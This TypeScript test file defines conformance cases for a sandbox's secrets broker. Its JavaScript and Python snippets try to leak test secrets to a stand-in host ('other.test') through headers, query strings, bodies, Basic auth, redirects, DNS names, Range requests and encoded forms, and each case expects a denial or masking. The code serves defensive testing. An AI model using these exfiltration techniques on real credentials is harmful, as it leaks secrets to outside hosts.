import type { SecretValue } from "@assay/proto";
import type { CaseSetUp, ConformanceCase } from "./conformance-case.ts";
import type { Upstream } from "./upstream.ts";

/** Names of the upstream: the one the secrets are for, and another that the source may reach too. */
export const secretHosts = { own: "api.test", other: "other.test" };

// Numbers are not looked through for secrets: what the code has seen comes out as it was.
const javascript = (attack: string): string => `
const own = "https://${secretHosts.own}", other = "https://${secretHosts.other}";
const codes = (value) => [...(typeof value === "string" ? value : JSON.stringify(value))].map((unit) => unit.codePointAt(0));
export async function fetchData(indicator, context) {
  if (indicator.data !== "attack") return { calm: true };
  const { KEY: key, OPEN: open } = context.secrets;
  ${attack}
}`;

const python = (attack: string): string => `
import base64, json, urllib.error, urllib.request
own, other = "https://${secretHosts.own}", "https://${secretHosts.other}"
def codes(value):
    return [ord(unit) for unit in (value if isinstance(value, str) else json.dumps(value, default=str))]
def fetch_data(indicator, context):
    if indicator.data != "attack":
        return {"calm": True}
    key, open = context.secrets.KEY, context.secrets["OPEN"]
    ${attack.trim().replaceAll("\n", "\n    ")}
`;

type Row = Pick<ConformanceCase, "id" | "name" | "message" | "happens" | "heldBy"> & {
  readonly expected: string;
  readonly js: string;
  readonly py: string;
};

const atOwnHostOnly = "the broker fills a placeholder in only for the hosts of its secret";
const inAnswers = "the broker puts the placeholder where a value comes back";
const inResults = "the runner puts the slot's name where a value or placeholder is in what a source says";

const rows: readonly Row[] = [
  {
    ...{ id: "E14a", name: "return a secret", expected: "ok" },
    js: `return { key, codes: codes(key) };`,
    py: `return {"key": key, "codes": codes(key)}`,
    ...{ happens: "the code holds a placeholder; the result shows the slot's name", heldBy: inResults },
  },
  {
    ...{ id: "E14b", name: "log a secret", expected: "ok" },
    js: `context.log.info("a", key, open); console.error({ key, open }); return {};`,
    py: `context.log.info("a", key, open); print({"key": key, "open": open}); return {}`,
    ...{ happens: "the log shows the slot's name", heldBy: inResults },
  },
  {
    ...{ id: "E14c", name: "throw a secret", expected: "SOURCE_ERROR", message: /\[secret KEY\] \[secret OPEN\]/ },
    js: `throw new Error(key + " " + open);`,
    py: `raise ValueError(key + " " + open)`,
    ...{ happens: "the message shows the slot's name", heldBy: inResults },
  },
  {
    ...{
      id: "E14d",
      name: "send a secret to another allowed host in a header",
      expected: "EGRESS_DENIED",
      message: /KEY may not go to other\.test/,
    },
    js: `await context.http.get(other + "/echo", { headers: { "X-Key": key } });`,
    py: `urllib.request.urlopen(urllib.request.Request(other + "/echo", headers={"X-Key": key}))`,
    ...{ happens: "refused; the message names the slot and its hosts", heldBy: atOwnHostOnly },
  },
  {
    ...{ id: "E14e", name: "send a secret to another allowed host in query, body or credentials", expected: "ok" },
    js: `
  const basic = "Basic " + btoa("user:" + key);
  const tries = [["/?k=" + key], ["/" + key], ["/", { method: "POST", body: key }], ["/", { headers: { Authorization: basic } }]];
  const ends = await Promise.all(tries.map(([path, init]) => fetch(other + path, init).then(() => "sent", (error) => error.code)));
  if (ends.join() !== "EGRESS_DENIED,EGRESS_DENIED,EGRESS_DENIED,EGRESS_DENIED") throw new Error(ends.join());
  return {};`,
    py: `
basic = "Basic " + base64.b64encode(("user:" + key).encode()).decode()
for path, body, headers in [("/?k=" + key, None, {}), ("/" + key, None, {}), ("/", key, {}), ("/", None, {"Authorization": basic})]:
    try:
        context.http.request("POST", other + path, body=body, headers=headers)
    except OSError as error:
        if error.code == "EGRESS_DENIED":
            continue
    raise RuntimeError("sent")
return {}`,
    ...{ happens: "each is refused", heldBy: atOwnHostOnly },
  },
  {
    ...{ id: "E14f", name: "have an allowed host give the secret back", expected: "ok" },
    js: `
  const basic = "Basic " + btoa("user:" + key);
  const options = { query: { k: key }, headers: { "X-Key": key, Authorization: basic }, json: { key } };
  const { text, headers, statusText, url } = await context.http.post(own + "/echo/" + key, options);
  return { codes: codes([text, headers, statusText, url]) };`,
    py: `
basic = "Basic " + base64.b64encode(("user:" + key).encode()).decode()
response = context.http.post(own + "/echo/" + key, query={"k": key}, headers={"X-Key": key, "Authorization": basic}, json={"key": key})
return {"codes": codes([response.text, dict(response.headers), response.status_text, response.url])}`,
    ...{
      happens: "it gets the value, the source gets the placeholder back, however the value is written",
      heldBy: inAnswers,
    },
  },
  {
    ...{
      id: "E14g",
      name: "have an allowed host redirect to another with the secret in the URL",
      expected: "EGRESS_DENIED",
    },
    js: `const response = await fetch(own + "/redirect?k=" + key); return { codes: codes(await response.text()) };`,
    py: `return {"codes": codes(urllib.request.urlopen(own + "/redirect?k=" + key).read().decode())}`,
    ...{ happens: "the next request is refused", heldBy: `${inAnswers}, the address of a redirect included` },
  },
  {
    ...{ id: "E14h", name: "read the secret in the address of a redirect", expected: "ok" },
    js: `
  const { headers, text } = await context.http.get(own + "/redirect?k=" + key, { redirect: "manual" });
  return { codes: codes([headers, text]) };`,
    py: `
response = context.http.get(own + "/redirect?k=" + key, redirect="manual")
return {"codes": codes([dict(response.headers), response.text])}`,
    ...{ happens: "the address holds the placeholder", heldBy: inAnswers },
  },
  {
    ...{
      id: "E14i",
      name: "have a body with the secret redirected to another host",
      expected: "EGRESS_DENIED",
      message: /KEY may not go to other\.test/,
    },
    js: `await context.http.post(own + "/onward", { json: { key } });`,
    py: `context.http.post(own + "/onward", json={"key": key})`,
    ...{ happens: "the second request is refused", heldBy: `${atOwnHostOnly}, on every redirect again` },
  },
  {
    ...{ id: "E14j", name: "find the secret in an error", expected: "ok" },
    js: `
  const seen = [];
  for (const path of ["/fail?k=", "/cut?k="])
    await context.http.get(own + path + key).catch((error) => seen.push(error.message, error.stack, error.response?.text ?? ""));
  return { codes: codes(seen) };`,
    py: `
seen = []
for path in ["/fail?k=", "/cut?k="]:
    try:
        context.http.get(own + path + key)
    except OSError as error:
        seen += [str(error), repr(error.__dict__), error.response.text if hasattr(error, "response") else ""]
return {"codes": codes(seen)}`,
    ...{ happens: "errors hold the placeholder or the slot's name", heldBy: inAnswers },
  },
  {
    ...{
      id: "E14k",
      name: "ask DNS for a name that holds the secret",
      expected: "EGRESS_DENIED",
      message: /KEY cannot be part of a host name/,
    },
    js: `await context.dns.resolve(key + ".other.test", "TXT");`,
    py: `context.dns.resolve(key + ".other.test", "TXT")`,
    ...{ happens: "refused before anything is looked up", heldBy: "the broker looks for placeholders in names" },
  },
  {
    ...{
      id: "E14l",
      name: "ask for a host whose name holds the secret",
      expected: "EGRESS_DENIED",
      message: /KEY cannot be part of a host name/,
    },
    js: `await fetch("https://" + key.toUpperCase() + ".${secretHosts.own}/");`,
    py: `urllib.request.urlopen("https://" + key.upper() + ".${secretHosts.own}/")`,
    ...{ happens: "refused before anything is looked up", heldBy: "the broker looks for placeholders in names" },
  },
  {
    ...{ id: "E14m", name: "have the secret given back in parts", expected: "ok" },
    js: `
  await context.http.post(own + "/keep", { body: key });
  const parts = [];
  for (const range of ["bytes=0-4", "bytes=5-"]) {
    const headers = { Range: range, "If-Range": "x" };
    parts.push((await context.http.get(own + "/kept", { headers })).text);
    parts.push((await context.http.get(own + "/echo?k=" + key, { headers })).text);
  }
  return { codes: codes(parts), more: codes(parts[0] + parts[2]) };`,
    py: `
context.http.post(own + "/keep", body=key)
parts = []
for range in ["bytes=0-4", "bytes=5-"]:
    headers = {"Range": range, "If-Range": "x"}
    parts.append(context.http.get(own + "/kept", headers=headers).text)
    parts.append(context.http.get(own + "/echo?k=" + key, headers=headers).text)
return {"codes": codes(parts), "more": codes(parts[0] + parts[2])}`,
    ...{
      happens: "the host sends all of it, and the placeholder comes back",
      heldBy: "requests to a host of a secret have no Range",
    },
  },
  {
    ...{ id: "E14n", name: "have a placeholder filled in half by half", expected: "ok" },
    js: `
  const half = key.length / 2;
  const { text } = await context.http.get(own + "/echo?a=" + key.slice(0, half) + "&b=" + key.slice(half));
  return { codes: codes(text) };`,
    py: `
half = len(key) // 2
return {"codes": codes(context.http.get(own + "/echo?a=" + key[:half] + "&b=" + key[half:]).text)}`,
    ...{ happens: "only a whole placeholder is one", heldBy: "the broker replaces whole placeholders" },
  },
  {
    ...{ id: "E14o", name: "return an exposed secret", expected: "ok" },
    js: `return { open, ["x" + open]: [open.toUpperCase(), encodeURIComponent(open), btoa("u:" + open)] };`,
    py: `return {"open": open, "x" + open: [open.upper(), base64.b64encode(("u:" + open).encode()).decode(), open[::-1]]}`,
    ...{ happens: "the result shows the slot's name in its place", heldBy: inResults },
  },
  {
    ...{
      id: "E14p",
      name: "send an exposed secret to another allowed host",
      expected: "EGRESS_DENIED",
      message: /OPEN may not go to other\.test/,
    },
    js: `await fetch(other + "/echo", { method: "POST", body: "x" + btoa("ab" + open) });`,
    py: `urllib.request.urlopen(other + "/echo", data=base64.b64encode(("ab" + open).encode()))`,
    ...{
      happens: "refused, also in base64, hexadecimal and percent-encoding",
      heldBy: "the broker looks for exposed values in requests",
    },
  },
];

/** The secret that the code of the cases does not get. */
export const hiddenSecret: SecretValue = {
  name: "KEY",
  value: `S3cr3t/+ "key"\\%41é`,
  hosts: [secretHosts.own],
  exposed: false,
};

/** That one, and one that the code gets. */
export const caseSecrets: readonly SecretValue[] = [
  hiddenSecret,
  { name: "OPEN", value: "0pen-S3cret_value", hosts: [secretHosts.own], exposed: true },
];

/** All that the sources of the cases may reach. */
export const caseHosts: readonly string[] = [secretHosts.own, secretHosts.other, `*.${secretHosts.own}`, "dns:*"];

/** A secret and what is as good as one. */
function formsOf(secret: string): string[] {
  const bytes = Buffer.from(secret);
  const escaped = JSON.stringify(secret).slice(1, -1);
  const plain = [secret, encodeURIComponent(secret), escaped, bytes.toString("hex"), bytes.toString("base64")];
  const pair = Buffer.from(`user:${secret}`).toString("base64").replace(/=+$/, "");
  return [...plain, pair, new URLSearchParams({ k: secret }).toString().slice(2), JSON.stringify(escaped).slice(1, -1)];
}

/** The forms in which a text holds one of the secrets. */
export const leaksIn = (text: string, secrets: readonly SecretValue[]): string[] =>
  secrets.flatMap(({ value }) => formsOf(value)).filter((form) => text.includes(form));

function setUp({ secrets: upstream }: Upstream): CaseSetUp {
  upstream.seen.length = 0;
  return {
    hosts: caseHosts,
    secrets: caseSecrets,
    async finish() {
      const elsewhere = JSON.stringify(upstream.seen.filter(({ host }) => host !== secretHosts.own));
      return leaksIn(elsewhere, caseSecrets).map((form) => `another host was sent ${form}`);
    },
  };
}

/** Every way out, in both languages. Beside this table, secrets-suite.ts looks at what the code itself has seen. */
export const secretCases = rows.map(({ js, py, expected, ...row }) => ({
  ...row,
  timeoutMs: 15_000,
  expected: [expected],
  code: { JAVASCRIPT: javascript(js.trim()), PYTHON: python(py) },
  setUp,
})) satisfies readonly ConformanceCase[];
